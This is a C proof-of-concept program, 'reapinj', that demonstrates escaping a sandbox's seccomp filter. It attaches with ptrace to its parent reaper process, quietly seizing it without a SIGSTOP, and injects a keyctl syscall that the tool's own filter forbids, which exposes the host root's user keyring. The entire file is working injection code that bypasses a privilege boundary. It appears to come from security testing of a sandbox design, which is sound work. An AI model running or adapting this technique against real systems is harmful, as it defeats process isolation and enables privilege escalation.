#define _GNU_SOURCE
/* reapinj: what the ptrace profile's tool can do to its parent, the
 * session's reaper. The reaper is not dumpable, but the tool holds
 * CAP_SYS_PTRACE in the initial user namespace and has the reaper's ids, so
 * it can attach; whatever the reaper's filter lets through, the tool then
 * has. Here: keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING), which the
 * tool's own filter refuses: as host uid 0 it names the host root's user
 * keyring (keyrings are not namespaced). x86_64 only.
 * usage: reapinj self     the call made here; prints its result
 *        reapinj parent   the call made by our parent, injected with ptrace */
#include <errno.h>
#include <linux/keyctl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *who, long r)
{
	if (r >= 0)
		printf("reapinj: %s: user keyring %ld\n", who, r);
	else
		printf("reapinj: %s: %s\n", who, strerror((int)-r));
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: reapinj self|parent\n");
		return 2;
	}
	if (strcmp(argv[1], "self") == 0) {
		long r = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1);
		say("self", r < 0 ? -errno : r);
		return 0;
	}
	pid_t pid = getppid();
	struct user_regs_struct saved, r;
	int st;
	/* SEIZE + INTERRUPT: no SIGSTOP for the launcher to see and answer */
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
		printf("reapinj: attach: %s\n", strerror(errno));
		return 3;
	}
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0 || waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st) ||
	    ptrace(PTRACE_GETREGS, pid, NULL, &saved) < 0) {
		printf("reapinj: attach: no stop\n");
		return 3;
	}
	unsigned long sc = saved.rip - 2; /* interrupted in poll(): `syscall` is just before rip */
	errno = 0;
	long word = ptrace(PTRACE_PEEKTEXT, pid, (void *)sc, NULL);
	if (errno || (word & 0xffff) != 0x050f) {
		printf("reapinj: no syscall instruction at rip-2\n");
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
		return 3;
	}
	r = saved;
	r.orig_rax = -1UL;
	r.rax = SYS_keyctl;
	r.rdi = KEYCTL_GET_KEYRING_ID;
	r.rsi = (unsigned long)KEY_SPEC_USER_KEYRING;
	r.rdx = 1;
	r.rip = sc;
	long res = -EIO;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &r) == 0 && ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) == 0 &&
	    waitpid(pid, &st, __WALL) == pid && WIFSTOPPED(st) && ptrace(PTRACE_GETREGS, pid, NULL, &r) == 0)
		res = (long)r.rax;
	(void)ptrace(PTRACE_SETREGS, pid, NULL, &saved);
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	say("parent", res);
	return 0;
}
